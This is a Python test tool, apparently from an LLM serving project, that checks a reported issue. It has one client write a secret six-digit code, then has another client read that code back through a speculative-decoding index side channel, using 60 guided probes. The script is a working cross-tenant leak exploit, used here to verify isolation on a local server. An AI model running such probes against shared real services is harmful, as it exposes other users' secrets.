"""The digit probe of issue 67 (finding 1): can one client read a code out of another client's answer?

A victim's answer holds a 6-digit code (here the victim asks for it with a regex, so that any model writes it). The
prober then sends, for each position of the code and each guess of its digit, a prompt ending in the digits before
it, with `draft: "suffix"`, `schedule: "fixed"` and a regex that forces the guessed digit first. If the prober's
tenant holds the victim's answer, the index of earlier answers has the pair (previous digit, guess) exactly when
the guess is right, and drafts what followed it in pass 2: the response's `speculative.draft_sources.index` says
so. A probe is informative when it drafted from the index: 10 probes per digit, 60 in all. The prober is given the
true digits before each position (the best case for it), and its own answers add nothing to its tenant's index
that a later probe is proposed (`probe`), so with a code of six distinct digits an informative probe can only
come from the victim's answer.

    .venv/bin/python tools/digit_probe.py --url http://127.0.0.1:8000 [--victim-key K1 --prober-key K2]

prints `informative probes: N of 60` and the code read back. Against a server without keys and its default
isolation, N is 6 (the code, read); with two keys, or `--isolation strict`, it should be 0.
"""

from __future__ import annotations

import argparse
import asyncio
from dataclasses import dataclass

import httpx

CODE = "481592"  # six distinct digits: no pair of them appears twice
# What the victim's answer says before the code, and the prober's prompt ends with: longer (in tokens) than what
# the index files of a prompt before its answer, so that the victim's answer agrees with a probe for longer than
# any earlier probe's answer does, and is the occurrence a lookup drafts from.
PROMPT = "Tell me the verification code."
LABEL = "Here is the verification code you asked for, keep it secret. code:"


@dataclass(frozen=True)
class ProbeResult:
    """What the probes read: how many drafted from the index (informative), of how many, and per position the
    guesses that did (one each, the right digit, where the prober reads the victim's answers)."""

    informative: int
    probes: int
    hits: list[list[str]]

    @property
    def code(self) -> str:
        """The code read back: the one guess per position that drafted, `?` where none or several did."""
        return "".join(h[0] if len(h) == 1 else "?" for h in self.hits)


def _speculative(fields: dict) -> dict:
    return {**fields, "speculative": {"draft": "suffix", "schedule": "fixed", "num_draft_tokens": 4}}


async def write_answer(client: httpx.AsyncClient, headers: dict[str, str], code: str = CODE) -> None:
    """The victim's request: an answer that holds `code` (after LABEL), which the server files in its tenant's index."""
    body = {"prompt": PROMPT, "max_tokens": len(LABEL) + len(code) + 3, "temperature": 0}
    label = LABEL.replace(".", "\\.")  # the only character of it a regex reads otherwise
    body["guided_regex"] = f"{label}{code}\\.[a-z]{{2}}"
    r = await client.post("/v1/completions", json=_speculative(body), headers=headers)
    r.raise_for_status()
    if code not in r.json()["choices"][0]["text"]:
        raise RuntimeError(f"the victim's answer does not hold the code: {r.text}")


async def probe(client: httpx.AsyncClient, headers: dict[str, str], known: str, guess: str) -> bool:
    """One probe: does the prober's tenant hold an answer where `guess` followed the last digit of `known` (after
    LABEL when `known` is empty)? True when pass 2 drafted from the index of earlier answers."""
    # Three tokens: the forced guess (pass 1); a digit or the code's final period (pass 2, which may draft one
    # token, and which a draft is proposed for only where the grammar allows it); letters, which nothing drafts
    # (pass 3 may draft none). So what the prober's own answers add to its index is never proposed to a later
    # probe: a digit pair of them is followed by letters, and a pair followed by a digit is (previous digit,
    # guess), which no other probe of the same code asks for again. (Letters after the period: a real
    # tokenizer may write the victim's period and letters as one token.)
    body = {"prompt": f"{PROMPT} {LABEL}{known}", "max_tokens": 3, "temperature": 0}
    body["guided_regex"] = f"{guess}[0-9.][a-z]*"
    r = await client.post("/v1/completions", json=_speculative(body), headers=headers)
    r.raise_for_status()
    return r.json()["speculative"]["draft_sources"].get("index", 0) > 0


async def read_code(
    client: httpx.AsyncClient, victim: dict[str, str], prober: dict[str, str], code: str = CODE
) -> ProbeResult:
    """The victim writes `code`; the prober probes every digit of every position (the digits before it given)."""
    await write_answer(client, victim, code)
    hits: list[list[str]] = []
    for i in range(len(code)):
        hits.append([g for g in "0123456789" if await probe(client, prober, code[:i], g)])
    return ProbeResult(sum(len(h) for h in hits), 10 * len(code), hits)


def _headers(key: str | None) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"} if key else {}


async def _main(args: argparse.Namespace) -> None:
    async with httpx.AsyncClient(base_url=args.url, timeout=300) as client:
        result = await read_code(client, _headers(args.victim_key), _headers(args.prober_key), args.code)
    print(f"informative probes: {result.informative} of {result.probes}")
    print(f"code read back: {result.code} (the victim's: {args.code})")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", default="http://127.0.0.1:8000")
    parser.add_argument("--victim-key", help="the victim's API key (none: a keyless server)")
    parser.add_argument("--prober-key", help="the prober's API key (none: a keyless server)")
    parser.add_argument("--code", default=CODE, help="six distinct digits")
    args = parser.parse_args()
    if len(args.code) != 6 or not args.code.isdigit() or len(set(args.code)) != 6:
        parser.error("--code: six distinct digits")
    asyncio.run(_main(args))


if __name__ == "__main__":
    main()
